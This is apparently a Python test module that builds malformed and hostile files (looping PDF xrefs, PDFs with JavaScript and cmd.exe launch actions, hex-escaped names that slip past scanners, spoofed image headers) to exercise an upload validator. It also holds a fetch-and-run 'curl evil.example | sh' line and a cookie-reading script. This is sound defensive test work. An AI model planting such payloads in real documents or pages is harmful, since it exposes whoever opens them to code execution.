"""Hostile files built in code: every byte of each input is visible here or in `tests/builders.py`.

Each builder is deterministic. PDFs are written by hand (like `tests.builders`) so that the hostile
structure (an xref that points at itself, an action dictionary, a page tree of 10,000 leaves) is
exactly what the test names, whatever a PDF library would normalise away.
"""

import io
import struct
import zlib

from PIL import Image
from pypdf import PdfWriter

from tests.builders import make_jpeg, make_pdf, make_png

CANARY = "Zq7canary"
"""Put in every submitted value a test can mark (file names, text, JSON strings): an error body
that contains it echoed the input."""

_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def _stream(dictionary: bytes, data: bytes) -> bytes:
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (dictionary, len(data), data)


def _objects(objects: list[bytes], *, header: bytes = b"%PDF-1.7\n") -> tuple[bytearray, list[int]]:
    out = bytearray(header + b"%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    return out, offsets


def _xref(offsets: list[int]) -> bytes:
    return b"xref\n0 %d\n0000000000 65535 f \n" % (len(offsets) + 1) + b"".join(
        b"%010d 00000 n \n" % offset for offset in offsets
    )


def pdf_of(objects: list[bytes], *, trailer_extra: bytes = b"") -> bytes:
    """`objects` numbered from 1 (1 is the catalog) with an exact xref table and trailer."""
    out, offsets = _objects(objects)
    xref_at = len(out)
    out += _xref(offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s>>\n" % (len(objects) + 1, trailer_extra)
    out += b"startxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


def _one_page(
    *, catalog_extra: bytes = b"", page_extra: bytes = b"", extra: list[bytes] | None = None
) -> bytes:
    """A valid one-page PDF whose catalog and page carry `*_extra`; `extra` objects start at 5."""
    content = b"BT /F1 11 Tf 72 760 Td (Offer of employment " + CANARY.encode() + b") Tj ET"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R %s>>" % catalog_extra,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
        b"/Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R %s>>" % page_extra,
        _FONT,
        _stream(b"", content),
        *(extra or []),
    ]
    return pdf_of(objects)


# --- PDFs with broken or hostile structure ------------------------------------------------------


def pdf_xref_self_loop() -> bytes:
    """The trailer's /Prev names the very xref section it belongs to."""
    out, offsets = _objects(_catalog_and_page())
    xref_at = len(out)
    out += _xref(offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R /Prev %d >>\n" % (len(offsets) + 1, xref_at)
    out += b"startxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


def pdf_xref_two_cycle() -> bytes:
    """Two xref sections whose /Prev entries name each other."""
    out, offsets = _objects(_catalog_and_page())
    table, size = _xref(offsets), len(offsets) + 1
    first = len(out)
    # Both trailers have fixed-width numbers, so the second's offset is known before writing.
    first_section = table + b"trailer\n<< /Size %d /Root 1 0 R /Prev %010d >>\n"
    second = first + len(first_section % (size, 0))
    out += first_section % (size, second)
    out += table + b"trailer\n<< /Size %d /Root 1 0 R /Prev %010d >>\n" % (size, first)
    out += b"startxref\n%d\n%%%%EOF\n" % second
    return bytes(out)


def _catalog_and_page() -> list[bytes]:
    return [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
    ]


def pdf_many_pages(pages: int = 10_000) -> bytes:
    """`pages` leaves under one /Pages node, all drawing one shared content stream (~1 MB)."""
    content = 3
    first_page = 4
    kids = b" ".join(b"%d 0 R" % (first_page + i) for i in range(pages))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [%s] /Count %d /MediaBox [0 0 612 792] >>" % (kids, pages),
        _stream(b"", b"BT ET"),
    ]
    objects += [b"<< /Type /Page /Parent 2 0 R /Contents %d 0 R >>" % content] * pages
    return pdf_of(objects)


def pdf_no_pages() -> bytes:
    return pdf_of([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"])


def pdf_page_tree_cycle() -> bytes:
    """A /Pages node that lists itself among its kids."""
    return pdf_of(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
        ]
    )


def pdf_deep_array(depth: int = 100_000) -> bytes:
    """A page whose /MediaBox is an array nested `depth` times: recursive parsers overflow."""
    return pdf_of(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox " + b"[" * depth + b"]" * depth + b" >>",
        ]
    )


def pdf_huge_declared_length() -> bytes:
    """A content stream declaring a /Length of a terabyte."""
    pdf = _one_page()
    return pdf.replace(b"/Length ", b"/Length 1099511627776 %", 1)


def pdf_xref_outside_file() -> bytes:
    """Every xref entry points far past the end of the file."""
    out, offsets = _objects(_catalog_and_page())
    xref_at = len(out)
    out += _xref([offset + 10_000_000 for offset in offsets])
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\n" % (len(offsets) + 1)
    out += b"startxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


def pdf_then_zip() -> bytes:
    """A valid PDF with a ZIP archive appended after its %%EOF (a PDF/ZIP polyglot from the start)."""
    import zipfile

    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w", compression=zipfile.ZIP_STORED) as z:
        info = zipfile.ZipInfo("run.sh", date_time=(2026, 1, 1, 0, 0, 0))
        z.writestr(info, b"#!/bin/sh\necho " + b"x" * 2000 + b"\n")
    return make_pdf() + archive.getvalue()


# --- PDFs with active content: scripts and launch actions --------------------------------------


def pdf_open_action_javascript() -> bytes:
    return _one_page(catalog_extra=b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> ")


def pdf_open_action_launch() -> bytes:
    return _one_page(
        catalog_extra=b"/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >> "
    )


def pdf_names_javascript() -> bytes:
    """Document-level JavaScript in the /Names tree, its code in a stream (object 6 and 7)."""
    return _one_page(
        catalog_extra=b"/Names << /JavaScript << /Names [(init) 6 0 R] >> >> ",
        extra=[b"<< /S /JavaScript /JS 7 0 R >>", _stream(b"", b"app.alert(1);")],
    )


def pdf_page_additional_action() -> bytes:
    """A page-open additional action (/AA /O) running JavaScript."""
    return _one_page(page_extra=b"/AA << /O << /S /JavaScript /JS (app.alert\\(1\\)) >> >> ")


def pdf_link_launch() -> bytes:
    """A link annotation whose action launches a program."""
    return _one_page(
        page_extra=b"/Annots [6 0 R] ",
        extra=[
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] "
            b"/A << /S /Launch /F (../../Windows/System32/cmd.exe) >> >>"
        ],
    )


def pdf_hex_escaped_javascript() -> bytes:
    """`/J#61vaScript` is the name /JavaScript written with a hex escape, to dodge byte scanners."""
    return _one_page(catalog_extra=b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >> ")


def pdf_chained_javascript() -> bytes:
    """A harmless /GoTo open action whose /Next action is JavaScript."""
    return _one_page(
        catalog_extra=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] "
        b"/Next << /S /JavaScript /JS (app.alert\\(1\\)) >> >> "
    )


def pdf_link_uri() -> bytes:
    """A control, not hostile: a link to a web page is how letters cite a site, and is kept."""
    return _one_page(
        page_extra=b"/Annots [6 0 R] ",
        extra=[
            b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] "
            b"/A << /S /URI /URI (https://www.canada.ca/) >> >>"
        ],
    )


def pdf_incrementally_updated() -> bytes:
    """A control, not hostile: a second xref section whose /Prev names the first, as any editor
    that saves a change in place writes."""
    writer = PdfWriter(io.BytesIO(make_pdf()), incremental=True)
    writer.add_metadata({"/Title": "Offer, signed"})
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


# --- Images --------------------------------------------------------------------------------------


def jpeg_declaring(width: int, height: int) -> bytes:
    """A small real JPEG whose frame header (SOF0) claims `width` x `height`."""
    data = bytearray(make_jpeg(16, 16))
    sof = data.index(b"\xff\xc0")
    data[sof + 5 : sof + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def _png_chunk(kind: bytes, payload: bytes) -> bytes:
    return (
        struct.pack(">I", len(payload))
        + kind
        + payload
        + struct.pack(">I", zlib.crc32(kind + payload))
    )


def png_declaring(width: int, height: int) -> bytes:
    """A PNG whose header claims `width` x `height` grey pixels, with one row of data."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + _png_chunk(b"IEND", b"")
    )


def png_bad_crc() -> bytes:
    data = bytearray(make_png(16, 16))
    data[29] ^= 0xFF  # the IHDR CRC
    return bytes(data)


def truncated_jpeg() -> bytes:
    data = make_jpeg(256, 256, noise=True)
    return data[: len(data) // 2]


def truncated_png() -> bytes:
    data = make_png(256, 256, noise=True)
    return data[: len(data) // 2]


def pillow_image(image_format: str, **options: object) -> bytes:
    out = io.BytesIO()
    Image.linear_gradient("L").resize((16, 16)).convert("RGB").save(
        out, format=image_format, **options
    )
    return out.getvalue()


def heic() -> bytes:
    """The start of an HEIC file: an ISO-BMFF `ftyp` box with brand `heic` and a `meta` box."""
    ftyp = struct.pack(">I", 24) + b"ftypheic" + b"\x00\x00\x00\x00" + b"mif1heic"
    return ftyp + struct.pack(">I", 16) + b"meta" + b"\x00" * 8


def avif() -> bytes:
    return struct.pack(">I", 28) + b"ftypavif" + b"\x00\x00\x00\x00" + b"avifmif1miaf"


# --- Executables and scripts --------------------------------------------------------------------


def mach_o() -> bytes:
    """A 64-bit Mach-O header (MH_MAGIC_64, x86_64, MH_EXECUTE)."""
    return struct.pack("<IiiIIII", 0xFEEDFACF, 0x01000007, 3, 2, 0, 0, 0) + b"\x00" * 32


def mach_o_universal() -> bytes:
    """A universal ("fat") Mach-O header: CAFEBABE, also how Java class files start."""
    return struct.pack(">II", 0xCAFEBABE, 1) + struct.pack(">iiIII", 0x01000007, 3, 4096, 64, 12)


def shell_script() -> bytes:
    return b"#!/bin/sh\ncurl -s https://evil.example/x | sh\n"


def html_page() -> bytes:
    return b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>\n"
